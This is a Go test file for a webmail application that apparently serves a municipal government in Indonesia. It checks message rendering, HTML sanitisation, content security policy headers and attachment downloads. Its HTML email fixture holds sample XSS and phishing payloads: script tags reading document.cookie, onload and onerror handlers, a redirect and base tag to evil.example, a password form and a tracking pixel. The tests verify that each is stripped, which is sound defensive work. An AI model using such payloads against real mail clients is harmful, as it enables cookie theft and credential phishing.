package webmail

import (
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/emersion/go-imap/v2"
	goimap "github.com/emersion/go-imap/v2/imapclient"
)

// htmlMessage is an HTML newsletter with an attack, a remote tracker, an
// inline (cid:) logo and a text alternative.
func htmlMessage(to string) string {
	return `From: Humas Pemko <humas@pematangsiantar.go.id>
To: ` + to + `
Cc: Sekretariat <sekretariat@pematangsiantar.go.id>
Subject: Buletin <b>Siantar</b> Minggu Ini
Date: Wed, 26 Nov 2025 09:15:00 +0700
Message-ID: <html-1@test>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8

Versi teks buletin.

--alt
Content-Type: text/html; charset=utf-8

<html><head><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"></head>
<body onload="alert(1)"><h1>Buletin</h1><p style="color: #0b3d91">Kegiatan <a href="https://pematangsiantar.go.id/berita">minggu ini</a>.</p>
<script>alert(document.cookie)</script><img src="x" onerror="alert(2)">
<img src="https://tracker.example/open.gif?u=tu">
<img src="cid:logo@pemko" alt="Logo Pemko">
<form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>
</body></html>

--alt--

--rel
Content-Type: image/png; name="logo.png"
Content-ID: <logo@pemko>
Content-Disposition: inline; filename="logo.png"
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==
--rel--
`
}

var reBodyURL = regexp.MustCompile(`<iframe class="body-frame" src="([^"]+)"`)

func TestMessageShowPlain(t *testing.T) {
	e := newEnv(t)
	uid := e.appendMessage(acctTU.Address, "INBOX", false, thisYear, attachmentMessage(acctTU.Address))
	b := e.browser()
	b.mustSignIn(acctTU)
	p := b.get(fmt.Sprintf("/mail/message?folder=INBOX&uid=%d&page=2", uid))
	if p.StatusCode != http.StatusOK {
		t.Fatalf("status %d\n%s", p.StatusCode, p.Body)
	}
	p.mustContain(t,
		"<title>Salinan Perwali – lampiran · Webmail Pematangsiantar</title>",
		`<h1 class="subject">Salinan Perwali – lampiran</h1>`,
		"<dt>Dari</dt><dd>Bagian Hukum &lt;hukum@pematangsiantar.go.id&gt;</dd>",
		"<dt>Kepada</dt><dd>"+acctTU.Address+"</dd>",
		"<dt>Tanggal</dt><dd>Selasa, 4 Maret 2025 10:00 WIB</dd>",
		`<pre class="body-text">Terlampir salinan Perwali. Lihat <a href="https://jdih.pematangsiantar.go.id/perwali" target="_blank" rel="noopener noreferrer">https://jdih.pematangsiantar.go.id/perwali</a> untuk arsip.`,
		"&lt;script&gt;alert(1)&lt;/script&gt;",
		"Perwali No. 5 – Pajak Daerah.pdf",
		`href="/mail?folder=INBOX&amp;page=2">← Kembali ke Kotak Masuk</a>`,
		`<h2 id="att-title">Lampiran</h2>`,
	)
	p.mustNotContain(t, "<script>", "<iframe")
	if p.Header.Get("Cache-Control") != "no-store" {
		t.Errorf("Cache-Control %q", p.Header.Get("Cache-Control"))
	}
	// Opening marked it read.
	if l := b.get("/mail"); strings.Contains(l.Body, `class="unread"`) {
		t.Error("still unread after opening")
	}
}

func TestMessageShowHTML(t *testing.T) {
	e := newEnv(t)
	uid := e.appendMessage(acctTU.Address, "INBOX", false, thisYear, htmlMessage(acctTU.Address))
	b := e.browser()
	b.mustSignIn(acctTU)
	p := b.get(fmt.Sprintf("/mail/message?folder=INBOX&uid=%d", uid))
	if p.StatusCode != http.StatusOK {
		t.Fatalf("status %d\n%s", p.StatusCode, p.Body)
	}
	p.mustContain(t,
		`<h1 class="subject">Buletin &lt;b&gt;Siantar&lt;/b&gt; Minggu Ini</h1>`,
		"<dt>Cc</dt><dd>Sekretariat &lt;sekretariat@pematangsiantar.go.id&gt;</dd>",
		`sandbox="allow-popups allow-popups-to-escape-sandbox"`,
		"Gambar dari luar diblokir",
	)
	p.mustNotContain(t, "<script>", "allow-scripts", "allow-same-origin", "Kegiatan",
		"logo.png") // the body's own image is not listed as an attachment
	m := reBodyURL.FindStringSubmatch(p.Body)
	if m == nil {
		t.Fatal("no body frame")
	}
	body := b.get(strings.ReplaceAll(m[1], "&amp;", "&"))
	if body.StatusCode != http.StatusOK {
		t.Fatalf("body: %d", body.StatusCode)
	}
	csp := body.Header.Get("Content-Security-Policy")
	for _, want := range []string{"default-src 'none'", "style-src 'unsafe-inline'", "img-src data: 'self'", "sandbox"} {
		if !strings.Contains(csp, want) {
			t.Errorf("body CSP %q lacks %q", csp, want)
		}
	}
	if strings.Contains(csp, "script-src") {
		t.Errorf("body CSP allows scripts: %q", csp)
	}
	if body.Header.Get("X-Content-Type-Options") != "nosniff" || body.Header.Get("X-Frame-Options") != "SAMEORIGIN" {
		t.Errorf("body headers: %v", body.Header)
	}
	body.mustContain(t,
		"<h1>Buletin</h1>",
		`<p style="color: #0b3d91">`,
		`<a href="https://pematangsiantar.go.id/berita" target="_blank" rel="noopener noreferrer">minggu ini</a>`,
		`<img src="data:image/png;base64,iVBORw0KGgo`, `alt="Logo Pemko"`,
	)
	body.mustNotContain(t, "<script", "onload", "onerror", "tracker.example", "<form", "<input", "<iframe", "<base", "http-equiv", "evil.example", "cid:")
}

func TestPartDownload(t *testing.T) {
	e := newEnv(t)
	uid := e.appendMessage(acctTU.Address, "INBOX", true, thisYear, attachmentMessage(acctTU.Address))
	b := e.browser()
	b.mustSignIn(acctTU)
	p := b.get(fmt.Sprintf("/mail/message?folder=INBOX&uid=%d", uid))
	links := regexp.MustCompile(`<a href="(/mail/part\?[^"]+)" download>`).FindAllStringSubmatch(p.Body, -1)
	if len(links) != 2 {
		t.Fatalf("%d attachment links:\n%s", len(links), p.Body)
	}
	d := b.get(strings.ReplaceAll(links[0][1], "&amp;", "&"))
	if d.StatusCode != http.StatusOK {
		t.Fatalf("download: %d\n%s", d.StatusCode, d.Body)
	}
	h := d.Header
	wantCD := `attachment; filename="Perwali No. 5 _ Pajak Daerah.pdf"; filename*=UTF-8''Perwali%20No.%205%20%E2%80%93%20Pajak%20Daerah.pdf`
	if got := h.Get("Content-Disposition"); got != wantCD {
		t.Errorf("Content-Disposition\n got %s\nwant %s", got, wantCD)
	}
	if h.Get("Content-Type") != "application/octet-stream" || h.Get("X-Content-Type-Options") != "nosniff" ||
		h.Get("Content-Security-Policy") != "default-src 'none'; sandbox" {
		t.Errorf("headers: %v", h)
	}
	if !strings.HasPrefix(d.Body, "%PDF-1.4") {
		t.Errorf("content not decoded: %q", d.Body)
	}
	// An HTML attachment is never served as HTML, and its name loses the
	// path and the quote.
	d = b.get(strings.ReplaceAll(links[1][1], "&amp;", "&"))
	if ct := d.Header.Get("Content-Type"); ct != "application/octet-stream" {
		t.Errorf("HTML attachment served as %q", ct)
	}
	if cd := d.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="laporan_x.html"`) {
		t.Errorf("Content-Disposition %q", cd)
	}
	// Parts that do not exist.
	for _, part := range []string{"9", "1.9.9", "abc", "", "1..2"} {
		d := b.get(fmt.Sprintf("/mail/part?folder=INBOX&uid=%d&part=%s", uid, url.QueryEscape(part)))
		if d.StatusCode != http.StatusNotFound {
			t.Errorf("part %q: %d", part, d.StatusCode)
		}
	}
}

func TestMessageNotFound(t *testing.T) {
	e := newEnv(t)
	uid := e.appendMessage(acctTU.Address, "INBOX", true, thisYear, plainMessage("a@b.id", acctTU.Address, "Akan dihapus", "x", thisYear))
	b := e.browser()
	b.mustSignIn(acctTU)
	// Deleted by another client meanwhile.
	withIMAP(t, e, acctTU, func(c *goimap.Client) {
		if _, err := c.Select("INBOX", nil).Wait(); err != nil {
			t.Fatal(err)
		}
		store := &imap.StoreFlags{Op: imap.StoreFlagsAdd, Silent: true, Flags: []imap.Flag{imap.FlagDeleted}}
		if err := c.Store(imap.UIDSetNum(imap.UID(uid)), store, nil).Close(); err != nil {
			t.Fatal(err)
		}
		if err := c.Expunge().Close(); err != nil {
			t.Fatal(err)
		}
	})
	for _, path := range []string{
		fmt.Sprintf("/mail/message?folder=INBOX&uid=%d", uid),
		fmt.Sprintf("/mail/body?folder=INBOX&uid=%d", uid),
		fmt.Sprintf("/mail/part?folder=INBOX&uid=%d&part=1", uid),
		"/mail/message?folder=INBOX&uid=0",
		"/mail/message?folder=INBOX&uid=abc",
		"/mail/message?folder=INBOX",
	} {
		p := b.get(path)
		if p.StatusCode != http.StatusNotFound {
			t.Errorf("%s: %d", path, p.StatusCode)
			continue
		}
		p.mustContain(t, "Pesan tidak ditemukan (mungkin sudah dipindahkan atau dihapus)")
	}
	b.get("/mail?lang=en")
	b.get(fmt.Sprintf("/mail/message?folder=INBOX&uid=%d", uid)).mustContain(t, "Message not found")
}

func TestFolderNotFound(t *testing.T) {
	e := newEnv(t)
	if err := e.backend.CreateMailbox(acctTU.Address, "Sementara"); err != nil {
		t.Fatal(err)
	}
	uid := e.appendMessage(acctTU.Address, "Sementara", true, thisYear, plainMessage("a@b.id", acctTU.Address, "Di folder sementara", "x", thisYear))
	b := e.browser()
	b.mustSignIn(acctTU)
	if p := b.get("/mail?folder=Sementara"); p.StatusCode != http.StatusOK {
		t.Fatalf("folder: %d", p.StatusCode)
	}
	// Deleted by another client meanwhile.
	withIMAP(t, e, acctTU, func(c *goimap.Client) {
		if err := c.Delete("Sementara").Wait(); err != nil {
			t.Fatal(err)
		}
	})
	for _, path := range []string{
		"/mail?folder=Sementara",
		fmt.Sprintf("/mail/message?folder=Sementara&uid=%d", uid),
		"/mail?folder=Tidak%20Ada",
	} {
		p := b.get(path)
		if p.StatusCode != http.StatusNotFound {
			t.Errorf("%s: %d\n%s", path, p.StatusCode, p.Body)
			continue
		}
		p.mustContain(t, "Folder tidak ditemukan", `href="/mail"`, "Kembali ke Kotak Masuk")
	}
}

func TestMailServerDownWhileSignedIn(t *testing.T) {
	e := newEnv(t)
	b := e.browser()
	b.mustSignIn(acctTU)
	e.backend.Close()
	e.cache.Drop(sessionIDOf(t, e, b))
	p := b.get("/mail")
	if p.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("status %d", p.StatusCode)
	}
	p.mustContain(t, "Server surat tidak dapat dihubungi, coba lagi nanti")
	p.mustNotContain(t, "connection refused", "127.0.0.1")
}
